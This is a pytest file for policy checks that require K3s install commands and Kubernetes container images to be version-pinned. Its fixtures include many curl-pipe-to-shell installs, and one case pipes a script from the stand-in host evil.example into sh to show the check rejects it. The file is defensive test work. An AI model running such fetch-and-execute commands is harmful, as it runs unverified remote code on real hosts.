import pytest

from k3smc_policy.versions import (
    REMOTE_COMMAND,
    container_images_pinned,
    k3s_version_pinned,
    split_image,
)
from policy_fakes import resource_args, violations

PINNED_URL = "https://raw.githubusercontent.com/k3s-io/k3s/v1.35.6%2Bk3s1/install.sh"
CHINA_URL = "https://rancher-mirror.rancher.cn/k3s/k3s-install.sh"
SHA256 = "3f0a3e6d2c5e4b1a9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a3928"


def command(create: str, **extra) -> dict:
    return {"connection": {"host": "203.0.113.10"}, "create": create, **extra}


K3S_FAILING = [
    pytest.param(command(f"curl -sfL {PINNED_URL} | INSTALL_K3S_VERSION=latest sh -s - server"),
                 "INSTALL_K3S_VERSION='latest'", id="version-latest"),
    pytest.param(command(f"curl -sfL {PINNED_URL} | INSTALL_K3S_VERSION='' sh -"),
                 "INSTALL_K3S_VERSION=''", id="version-empty"),
    pytest.param(command(f"curl -sfL {PINNED_URL} | INSTALL_K3S_VERSION=v1.35 sh -"),
                 "not an exact K3s release", id="version-partial"),
    pytest.param(command("curl -sfL https://get.k3s.io | sh -s - agent"),
                 "without INSTALL_K3S_VERSION", id="no-version"),
    pytest.param(command("curl -sfL https://get.k3s.io | INSTALL_K3S_CHANNEL=stable sh -"),
                 "INSTALL_K3S_CHANNEL", id="channel"),
    pytest.param(command("curl -sfL https://raw.githubusercontent.com/k3s-io/k3s/master/"
                         "install.sh | INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
                 "names a branch", id="branch-url"),
    pytest.param(command(f"curl -sfL {CHINA_URL} | INSTALL_K3S_MIRROR=cn "
                         f"INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
                 "carries no version", id="mirror-url-without-sha256"),
    pytest.param(command(f"env INSTALL_K3S_VERSION=v1.35.6+k3s1 INSTALL_SCRIPT_URL={CHINA_URL} "
                         f"REGISTRIES_SHA256={SHA256} bash install-k3s.sh"),
                 "carries no version", id="mirror-url-other-sha256"),
    pytest.param(command("sh /tmp/k3smc/install.sh",
                         environment={"INSTALL_K3S_VERSION": "main"}),
                 "INSTALL_K3S_VERSION='main'", id="environment-branch"),
    # The version appears in the URL but not as a path segment, so the server
    # may return any script.
    pytest.param(command("curl -sfL https://get.k3s.io/#v1.35.6+k3s1 | "
                         "INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
                 "carries no version", id="version-in-fragment"),
    pytest.param(command("curl -sfL 'https://get.k3s.io/?v=v1.35.6%2Bk3s1' | "
                         "INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
                 "carries no version", id="version-in-query"),
    pytest.param(command("curl -sfL https://v1.35.6+k3s1.evil.example/install.sh | "
                         "INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
                 "carries no version", id="version-in-host"),
    pytest.param(command("curl -sfL https://raw.githubusercontent.com/k3s-io/k3s/"
                         "v1.35.6%2Bk3s1-rc1/install.sh | INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
                 "carries no version", id="version-prefix-of-segment"),
    pytest.param(command("curl -sfL https://raw.githubusercontent.com/k3s-io/k3s/"
                         "v1.30.0%2Bk3s1/install.sh | INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
                 "carries no version", id="other-version-in-path"),
    pytest.param(command("env INSTALL_K3S_VERSION=v1.35.6+k3s1 "
                         "INSTALL_SCRIPT_URL=https://get.k3s.io/#v1.35.6+k3s1 bash install-k3s.sh"),
                 "carries no version", id="environment-url-fragment"),
]

K3S_PASSING = [
    pytest.param(command(f"curl -sfL {PINNED_URL} | INSTALL_K3S_VERSION=v1.35.6+k3s1 "
                         f"sh -s - server --cluster-init"), id="pinned"),
    pytest.param(command(f"curl -sfL {PINNED_URL} | INSTALL_K3S_VERSION='v1.35.6+k3s1' sh -"),
                 id="pinned-quoted"),
    pytest.param(command(f"curl -sfL {CHINA_URL} -o /tmp/i.sh && echo '{SHA256}  /tmp/i.sh' | "
                         f"sha256sum -c - && INSTALL_K3S_MIRROR=cn "
                         f"INSTALL_K3S_VERSION=v1.35.6+k3s1 sh /tmp/i.sh"),
                 id="mirror-with-sha256"),
    pytest.param(command("sh /tmp/k3smc/install.sh",
                         environment={"INSTALL_K3S_VERSION": "v1.35.6+k3s1"}),
                 id="environment"),
    pytest.param(command("curl -sfL https://raw.githubusercontent.com/k3s-io/k3s/v1.35.6+k3s1/"
                         "install.sh | INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
                 id="pinned-plus-sign"),
    pytest.param(command("curl -sfL https://raw.githubusercontent.com/k3s-io/k3s/v1.35.6%2bk3s1/"
                         "install.sh#top | INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
                 id="pinned-lowercase-escape"),
    pytest.param(command("env INSTALL_K3S_VERSION=v1.35.6+k3s1 INSTALL_SCRIPT_URL=https://"
                         f"get.k3s.io/ INSTALL_SCRIPT_SHA256={SHA256} bash install-k3s.sh"),
                 id="unversioned-url-with-sha256"),
    pytest.param(command("cat /etc/rancher/k3s/k3s.yaml"), id="not-an-install"),
    pytest.param(command("/usr/local/bin/k3s-uninstall.sh"), id="uninstall"),
]


@pytest.mark.parametrize("props, expected", K3S_FAILING)
def test_unpinned_k3s_install_fails(props, expected):
    reported = violations(k3s_version_pinned, resource_args(REMOTE_COMMAND, props, "install-k3s:ty1"))

    assert reported
    assert any(expected in message for message in reported), reported


@pytest.mark.parametrize("props", K3S_PASSING)
def test_pinned_k3s_install_passes(props):
    assert violations(k3s_version_pinned, resource_args(REMOTE_COMMAND, props)) == []


def test_k3s_check_ignores_other_types():
    props = {"create": "curl -sfL https://get.k3s.io | sh -"}

    assert violations(k3s_version_pinned, resource_args("command:local:Command", props)) == []


def daemon_set(*images: str, init_images: tuple[str, ...] = ()) -> dict:
    return {
        "metadata": {"name": "kilo", "namespace": "kube-system"},
        "spec": {"template": {"spec": {
            "initContainers": [{"name": f"init-{i}", "image": image}
                               for i, image in enumerate(init_images)],
            "containers": [{"name": f"c-{i}", "image": image} for i, image in enumerate(images)],
        }}},
    }


DAEMON_SET = "kubernetes:apps/v1:DaemonSet"

IMAGE_FAILING = [
    pytest.param(DAEMON_SET, daemon_set("docker.io/squat/kilo:latest"), "containers[0]",
                 id="latest"),
    pytest.param(DAEMON_SET, daemon_set("docker.io/squat/kilo"), "(none, so latest)",
                 id="no-tag"),
    pytest.param(DAEMON_SET, daemon_set("registry.example:5000/squat/kilo"),
                 "(none, so latest)", id="registry-port-no-tag"),
    pytest.param(DAEMON_SET, daemon_set("docker.io/squat/kilo:main"), "moving tag main",
                 id="branch"),
    pytest.param(DAEMON_SET, daemon_set("docker.io/squat/kilo:0.7.0",
                                        init_images=("docker.io/squat/kilo:amd64-abc123",)),
                 "initContainers[0]", id="kilo-not-release"),
    pytest.param("kubernetes:batch/v1:CronJob",
                 {"spec": {"jobTemplate": {"spec": {"template": {"spec": {
                     "containers": [{"name": "c", "image": "busybox:stable"}]}}}}}},
                 "moving tag stable", id="cronjob"),
]

IMAGE_PASSING = [
    pytest.param(DAEMON_SET, daemon_set("docker.io/squat/kilo:0.7.0",
                                        init_images=("docker.io/squat/kilo:0.7.0",)),
                 id="kilo-release"),
    pytest.param(DAEMON_SET, daemon_set("registry.cn-hangzhou.aliyuncs.com/mirror/kilo:0.7.0"),
                 id="kilo-mirror"),
    pytest.param(DAEMON_SET, daemon_set("docker.io/squat/kilo@sha256:" + "a" * 64),
                 id="digest"),
    pytest.param("kubernetes:apps/v1:Deployment",
                 {"spec": {"template": {"spec": {"containers": [
                     {"name": "c", "image": "registry.example:5000/tools/kubectl:1.35.6"}]}}}},
                 id="registry-port"),
    pytest.param("kubernetes:core/v1:ConfigMap", {"data": {"image": "x:latest"}},
                 id="not-a-workload"),
]


@pytest.mark.parametrize("resource_type, props, expected", IMAGE_FAILING)
def test_unpinned_image_fails(resource_type, props, expected):
    reported = violations(container_images_pinned, resource_args(resource_type, props, "kilo"))

    assert len(reported) == 1
    assert expected in reported[0]


@pytest.mark.parametrize("resource_type, props", IMAGE_PASSING)
def test_pinned_image_passes(resource_type, props):
    assert violations(container_images_pinned, resource_args(resource_type, props)) == []


@pytest.mark.parametrize("image, expected", [
    ("squat/kilo:0.7.0", ("squat/kilo", "0.7.0", "")),
    ("registry.example:5000/kilo", ("registry.example:5000/kilo", "", "")),
    ("kilo@sha256:abc", ("kilo", "", "sha256:abc")),
    ("kilo:0.7.0@sha256:abc", ("kilo", "0.7.0", "sha256:abc")),
])
def test_split_image(image, expected):
    assert split_image(image) == expected
